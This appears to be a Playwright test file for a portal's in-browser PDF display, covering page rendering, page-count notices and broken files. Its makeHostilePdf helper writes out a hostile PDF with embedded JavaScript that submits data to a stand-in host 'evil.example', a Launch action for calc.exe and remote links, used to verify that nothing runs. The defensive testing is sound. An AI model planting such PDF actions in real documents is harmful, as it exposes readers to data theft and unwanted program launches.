import { jsPDF } from 'jspdf';
import { expect, type Page, test } from '../fixtures/test.ts';
import { dialog, openList } from '../words/lists.ts';

test.use({
  account: 'rosa',
  viewport: { width: 360, height: 740 },
  hasTouch: true,
  isMobile: true,
  hasPdfViewer: false,
});

function makePdf(pages: number): Buffer {
  const doc = new jsPDF();
  for (let number = 1; number <= pages; number += 1) {
    if (number > 1) doc.addPage();
    doc.setFontSize(40).text(`Receipt ${number}`, 20, 40);
    doc.setFillColor(0, 0, 0).rect(20, 60, 100, 100, 'F');
  }
  return Buffer.from(doc.output('arraybuffer'));
}

async function openFile(page: Page, body: Buffer): Promise<void> {
  await page.route('**/files/**', (route) => route.fulfill({ body, contentType: 'application/pdf' }));
  await openList(page, 'employees');
  await page
    .getByRole('button', { name: /^Open first-aid.*\.pdf$/ })
    .first()
    .click();
}

test('FILE-02 FILE-11 where the browser has no viewer, the portal draws the pages', async ({ page }) => {
  await openFile(page, makePdf(2));
  const pages = dialog(page).getByRole('region', { name: /^Content of first-aid/ });
  await expect(pages.getByRole('img')).toHaveCount(2);
  await expect(pages.getByRole('img', { name: 'Page 2 of 2' })).toBeAttached();
  await expect(pages).toContainText('Receipt 1');
  await expect(dialog(page).locator('iframe')).toHaveCount(0);
  await expect(dialog(page).getByRole('button', { name: 'Download', exact: true })).toBeEnabled();
  const inks = await pages
    .getByRole('img')
    .first()
    .evaluate(async (element) => {
      const picture = element as HTMLImageElement;
      await picture.decode();
      const canvas = document.createElement('canvas');
      canvas.width = picture.naturalWidth;
      canvas.height = picture.naturalHeight;
      const context = canvas.getContext('2d');
      context?.drawImage(picture, 0, 0);
      const { data } = context?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
      const at = (share: number) => Math.floor(canvas.height * share) * canvas.width * 4 + canvas.width;
      return [data[at(0.3)], data[at(0.9)]];
    });
  // Inside of the black square, and on the empty paper below it.
  expect(inks).toEqual([0, 255]);
});

test('FILE-02 a long PDF says how much of it is shown', async ({ page }) => {
  await openFile(page, makePdf(22));
  await expect(dialog(page)).toContainText('The first 20 of 22 pages are shown.');
});

test('FILE-02 FILE-04 a PDF that cannot be drawn says so instead of an empty frame', async ({ page }) => {
  await openFile(page, Buffer.from('%PDF-1.4 nothing of a PDF follows'));
  await expect(dialog(page).getByRole('alert')).toHaveText(
    'The portal cannot show this PDF. Download it to open it on your device.',
  );
  await expect(dialog(page).getByRole('button', { name: 'Download', exact: true })).toBeEnabled();
});

/** One page that would run a script, send what it holds, open a program and lead elsewhere, if anything of it ran. */
function makeHostilePdf(): Buffer {
  const script = (act: string) =>
    `<</S/JavaScript/JS(globalThis.harmed=true;app.alert\\(1\\);${act}this.submitForm\\("http://evil.example/"\\);)>>`;
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction${script('')}/AA<</WC${script('')}/DC${script('')}>>/Names<</JavaScript<</Names[(a)${script('')}]>>>>/AcroForm<</Fields[5 0 R]/CO[5 0 R]>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/AA<</O${script('')}>>/Annots[5 0 R 6 0 R 7 0 R 8 0 R]>>`,
    '<</Length 34>>stream\n0 0 0 rg 0 0 300 150 re f\nendstream',
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(1)/Rect[10 160 100 180]/AA<</K${script('')}/C${script('')}/F${script('')}>>>>`,
    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI(javascript:globalThis.harmed=true)>>>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/Launch/F(calc.exe)>>>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/GoToR/F(http://evil.example/a.pdf)/D[0/Fit]>>>>',
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n${body}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF`, 'latin1');
}

test('FILE-02 FILE-04 of a PDF with scripts and links only its picture is shown: nothing runs, nothing is asked for', async ({
  page,
  origin,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('dialog', () => expect(false, 'the file opened a dialog').toBe(true));
  await openFile(page, makeHostilePdf());
  const pages = dialog(page).getByRole('region', { name: /^Content of first-aid/ });
  await expect(pages.getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
  // Nothing but the picture and its words: no field, no link, no frame of the file's own.
  expect(
    await pages.evaluate((region) => [...region.querySelectorAll('*')].map((one) => one.tagName)),
  ).toEqual(['IMG', 'SPAN']);
  expect(asked.filter((address) => !address.startsWith(origin) && !address.startsWith('blob:'))).toEqual([]);
  expect(asked.filter((address) => /sandbox|quickjs|\.wasm/i.test(address))).toEqual([]);
  expect(await page.evaluate(() => 'harmed' in globalThis)).toBe(false);
  expect(page.context().pages()).toHaveLength(1);
});

test.describe('with a viewer', () => {
  test.use({ hasPdfViewer: true });

  test('FILE-02 a browser with a viewer keeps its own, and loads no reader', async ({ page }) => {
    const scripts: string[] = [];
    page.on('request', (request) => scripts.push(request.url()));
    await openFile(page, makePdf(1));
    await expect(dialog(page).locator('iframe')).toBeVisible();
    expect(scripts.filter((address) => /PdfPages|draw-pdf/.test(address))).toEqual([]);
  });
});
